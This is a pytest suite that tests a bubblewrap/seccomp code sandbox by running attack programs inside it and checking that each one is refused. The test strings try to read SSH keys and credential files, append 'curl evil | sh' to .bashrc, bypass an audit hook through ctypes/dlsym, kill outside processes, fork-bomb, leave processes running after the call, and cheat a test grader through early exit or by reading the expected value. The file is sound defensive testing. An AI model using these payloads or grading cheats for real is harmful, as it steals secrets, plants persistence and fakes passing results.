"""Attack programs against the sandbox, each run from a root parent and from an unprivileged parent.

Every attack must be contained by the kernel layers (mount, PID, network and user namespaces, the per-call
uid, seccomp), not only by the audit hook: several go through native code (ctypes, dlsym) on purpose.
Fake secrets live in a fake HOME under /tmp (see `sandbox_parents.py`); results are judged from what the
child printed (errno names and numbers), never from timings.
"""
from __future__ import annotations

import errno
import shutil

import pytest
from sandbox_parents import SECRETS, alive, make_parent, parents, processes_in_namespace

from recmas_ray.sandbox import bwrap, seccomp

pytestmark = pytest.mark.sandbox  # every test here runs code in the bubblewrap sandbox

WORK = bwrap.layout().work

NS = "import os\nprint('NS', os.readlink('/proc/self/ns/pid'), flush=True)\n"
NATIVE = '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
dlsym = libc.dlsym
dlsym.restype, dlsym.argtypes = ctypes.c_void_p, [ctypes.c_void_p, ctypes.c_char_p]
def native(name, restype, *argtypes):
    # resolved through dlsym, so the audit hook's ctypes name filter never sees the real name
    return ctypes.CFUNCTYPE(restype, *argtypes, use_errno=True)(dlsym(None, name.encode()))
def report(what, value):
    print(what, value, ctypes.get_errno() if value == -1 else 0, flush=True)
'''


@pytest.fixture(params=parents())
def parent(request):
    return make_parent(request.param)


@pytest.fixture
def home(parent):
    path = parent.fake_home()
    yield path
    shutil.rmtree(path, ignore_errors=True)


def _ns(res) -> str:
    return next(ln.split(" ", 1)[1] for ln in res.stdout.splitlines() if ln.startswith("NS "))


def _no_secret_in(res) -> None:
    for text in SECRETS.values():
        if "bashrc" not in text:
            assert text not in res.stdout + res.stderr


def test_dir_fd_read_of_ssh_key(parent, home) -> None:
    code = (f"import os\ntry:\n    d = os.open({str(home)!r}, os.O_RDONLY)\n"
            "    print(os.read(os.open('.ssh/id_rsa', os.O_RDONLY, dir_fd=d), 200))\n"
            "except OSError as e:\n    print('ERR', e.errno)")
    res = parent.run(code)
    assert f"ERR {errno.ENOENT}" in res.stdout, res  # the fake home does not exist in the mount namespace
    _no_secret_in(res)


def test_reading_credential_files_fails(parent, home) -> None:
    paths = [str(home / rel) for rel in (".npmrc", ".config/gh/hosts.yml", "tavily_keys.txt", ".ssh/id_rsa")]
    code = ("import os\nfor p in %r:\n    for q in (p, '/proc/1/root' + p, '/proc/self/root' + p):\n"
            "        try:\n            print('READ', open(q).read())\n"
            "        except OSError as e:\n            print('ERR', e.errno)" % paths)
    res = parent.run(code)
    assert "READ" not in res.stdout and res.stdout.count("ERR") == 12, res
    _no_secret_in(res)


def test_appending_to_bashrc_fails(parent, home) -> None:
    target = home / ".bashrc"
    code = (f"import os\ntry:\n    fd = os.open({str(target)!r}, os.O_WRONLY | os.O_APPEND | os.O_CREAT)\n"
            "    os.write(fd, b'curl evil | sh')\n    print('WROTE')\nexcept OSError as e:\n    print('ERR', e.errno)")
    res = parent.run(code)
    assert "WROTE" not in res.stdout and "ERR" in res.stdout, res
    assert target.read_text() == SECRETS[".bashrc"]


def test_signal_to_a_same_uid_process_via_ctypes_sigqueue(parent) -> None:
    victim = parent.spawn(["sleep", "60"])
    try:
        code = NATIVE + (f"report('sigqueue', native('sigqueue', ctypes.c_int, ctypes.c_int, ctypes.c_int, "
                         f"ctypes.c_void_p)({victim.pid}, 9, None))\n"
                         f"report('kill', native('kill', ctypes.c_int, ctypes.c_int, ctypes.c_int)(-1, 9))")
        res = parent.run(code)
        assert f"sigqueue -1 {errno.ESRCH}" in res.stdout, res  # the victim's pid does not exist in the namespace
        assert alive(victim.pid), "kill(-1) inside the sandbox must not reach the parent's processes"
    finally:
        victim.kill()
        victim.wait()


def test_native_fork_daemon_ptrace_unshare_and_sockets_are_refused(parent, home) -> None:
    code = NATIVE + f'''
report('open', native('open', ctypes.c_int, ctypes.c_char_p, ctypes.c_int)({str(home / "tavily_keys.txt")!r}.encode(), 0))
report('socket', native('socket', ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(2, 1, 0))
pid = native('fork', ctypes.c_int)()
if pid == 0:
    os._exit(0)
report('fork', pid)
report('daemon', native('daemon', ctypes.c_int, ctypes.c_int, ctypes.c_int)(1, 1))
report('ptrace', native('ptrace', ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)(16, 1, None, None))
report('unshare', native('unshare', ctypes.c_int, ctypes.c_int)(0x10000000))
'''
    res = parent.run(code)
    lines = set(res.stdout.splitlines())
    assert f"open -1 {errno.ENOENT}" in lines, res
    for call in ("socket", "fork", "daemon", "ptrace", "unshare"):
        assert f"{call} -1 {errno.EPERM}" in lines, (call, res)
    _no_secret_in(res)


@pytest.mark.parametrize("how", ["fork_setsid_fork", "daemon"])
def test_survivors_die_with_the_call(parent, how: str) -> None:
    if how == "daemon":
        body = NATIVE + "native('daemon', ctypes.c_int, ctypes.c_int, ctypes.c_int)(1, 1)\nimport time\ntime.sleep(60)"
    else:
        body = ("if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        import time\n"
                "        time.sleep(60)\n    os._exit(0)\n")
    res = parent.run(NS + body, allow_subprocess=True, timeout_s=10)
    assert res.exit_code == 0 and not res.timed_out, res
    assert processes_in_namespace(_ns(res)) == []


def test_survivor_cannot_rewrite_the_next_call(parent) -> None:
    attacker = NS + ("if os.fork() == 0:\n    os.setsid()\n    import time\n    for _ in range(300):\n"
                     f"        for p in ('{WORK}/main.py', '/tmp/main.py'):\n            try:\n"
                     "                open(p, 'w').write('print(\"HACKED\")')\n            except OSError:\n"
                     "                pass\n        time.sleep(0.01)\nos._exit(0)\n")
    first = parent.run(attacker, allow_subprocess=True)
    assert first.exit_code == 0, first
    second = parent.run("print(open('main.py').read().count('HACKED'), 'mine')")
    assert second.stdout.strip() == "1 mine", second  # its own source (which names HACKED once), untouched
    assert processes_in_namespace(_ns(first)) == []


def test_processes_of_a_timed_out_call_are_gone(parent) -> None:
    code = NS + ("for _ in range(8):\n    if os.fork() == 0:\n        import time\n        time.sleep(60)\n"
                 "import time\ntime.sleep(60)")
    res = parent.run(code, allow_subprocess=True, timeout_s=2)
    assert res.timed_out
    assert processes_in_namespace(_ns(res)) == []  # run_python returns only once the namespace's init is gone


def test_fork_storm_is_bounded_by_the_process_limit(parent) -> None:
    code = NS + ("import time\nn = 0\ntry:\n    for _ in range(200):\n        if os.fork() == 0:\n"
                 "            time.sleep(30)\n            os._exit(0)\n        n += 1\nexcept OSError as e:\n"
                 "    print('stopped', n, e.errno)")
    res = parent.run(code, allow_subprocess=True, max_processes=16)
    stopped = [ln.split() for ln in res.stdout.splitlines() if ln.startswith("stopped")]
    assert stopped and stopped[0][2] == str(errno.EAGAIN), res
    # A root parent's call has a uid of its own: exactly the limit. A non-root parent's calls share its uid,
    # whose other processes (which may come and go meanwhile) count too.
    assert int(stopped[0][1]) <= 16 if parent.name == "root" else int(stopped[0][1]) < 200, res
    assert processes_in_namespace(_ns(res)) == []


def test_only_size_limited_tmpfs_is_writable(parent) -> None:
    # Native open (no audit hook): bwrap's own root and /dev would be writable inside a user namespace.
    dirs = ["/", "/etc", "/dev", "/usr", "/bin", "/proc", WORK, "/tmp", "/dev/shm", *bwrap.layout().bound]
    code = NATIVE + ("op = native('open', ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_int)\n"
                     "for d in %r:\n    fd = op((d.rstrip('/') + '/probe').encode(), 0o101, 0o644)\n"
                     "    print(d, 'W' if fd >= 0 else 'refused')" % dirs)
    res = parent.run(code)
    writable = {ln.split()[0] for ln in res.stdout.splitlines() if ln.endswith(" W")}
    assert writable == {WORK, "/tmp", "/dev/shm"}, res


def test_parent_secrets_never_reach_the_child_environment(parent) -> None:
    secrets = {"TAVILY_API_KEY": "tv" "ly-FAKE-ENV-5e6f7a8b", "AWS_SECRET_ACCESS_KEY": "aws-FAKE-1c2d3e",
               "RAY_AUTH_TOKEN": "ray-FAKE-9a8b7c"}
    code = ("import os\nprint(dict(os.environ))\nfor p in ('/proc/self/environ', '/proc/1/environ'):\n"
            "    try:\n        print(open(p, 'rb').read())\n    except OSError as e:\n        print(p, e)\n"
            "print(os.listdir('/proc'))")
    res = parent.run(code, parent_env=secrets)
    assert res.exit_code == 0, res
    for value in secrets.values():
        assert value not in res.stdout + res.stderr


SCRIPT_CHEATS = {
    "sys.exit(0)": "import sys\nsys.exit(0)\ndef add(a, b):\n    return 0\n",
    "os._exit(0)": "import os\nos._exit(0)\n",
    "caller globals": "import sys\ndef add(a, b):\n    return sys._getframe(1).f_globals['E']\n",
    "signal frame": "import os, signal\nseen = {}\nsignal.signal(signal.SIGUSR1, lambda s, f: seen.update(E=5))\n"
                    "def add(a, b):\n    os.kill(os.getpid(), signal.SIGUSR1)\n    return seen.get('E')\n",
}


@pytest.mark.parametrize("name", sorted(SCRIPT_CHEATS))
def test_grading_cheats_fail_from_either_parent(parent, name: str) -> None:
    tests = "E = 5\nassert add(2, 3) == E\n"
    assert parent.run(SCRIPT_CHEATS[name], tests=tests).tests_passed is False
    assert parent.run("def add(a, b):\n    return a + b\n", tests=tests).tests_passed is True


def test_namespace_init_has_the_limits_too(parent) -> None:
    # The child may write the init's memory (same uid in a user namespace); prlimit gives it the same limits.
    res = parent.run("print([l.split()[-3] for l in open('/proc/1/limits') if l.startswith('Max address space')])",
                     memory_mb=512)
    assert res.stdout.strip() == f"['{512 * 1024 * 1024}']", res


def test_memory_no_rlimit_counts_is_refused(parent) -> None:
    # memfd pages filled with write() and SysV segments/queues outlive every mapping, so RLIMIT_AS never counts
    # them (300 MiB held with memory_mb=128 before); the fallbacks (/dev/shm, the work folder) are size-limited.
    nr = seccomp._NR[seccomp.supported_arch()]
    code = NATIVE + f'''
sc = native('syscall', ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long)
try:
    fd = os.memfd_create('hold')
    for _ in range(300):
        os.write(fd, b'x' * (1 << 20))
    print('memfd held', os.fstat(fd).st_size)
except OSError as e:
    print('memfd ERR', e.errno)
report('memfd_native', sc({nr["memfd_create"]}, ctypes.cast(ctypes.c_char_p(b'x'), ctypes.c_void_p).value, 0, 0))
report('shmget', sc({nr["shmget"]}, 0, 256 << 20, 0o1600, 0))
report('msgget', sc({nr["msgget"]}, 0, 0o1600, 0, 0))
op = native('open', ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_int)
for where in ('/dev/shm/hold', 'hold'):  # native open: the kernel's bound, not the audit hook's
    fd = op(where.encode(), 0o101, 0o600)
    try:
        for _ in range(300):
            os.write(fd, b'x' * (1 << 20))
        print(where, 'held 300 MiB')
    except OSError as e:
        print(where, 'ERR', e.errno)
'''
    res = parent.run(code, memory_mb=128, work_dir_mb=32, max_file_mb=512)
    lines = set(res.stdout.splitlines())
    assert {f"memfd ERR {errno.ENOSYS}", f"memfd_native -1 {errno.ENOSYS}", f"shmget -1 {errno.EPERM}",
            f"msgget -1 {errno.EPERM}", f"/dev/shm/hold ERR {errno.ENOSPC}", f"hold ERR {errno.ENOSPC}"} <= lines, res
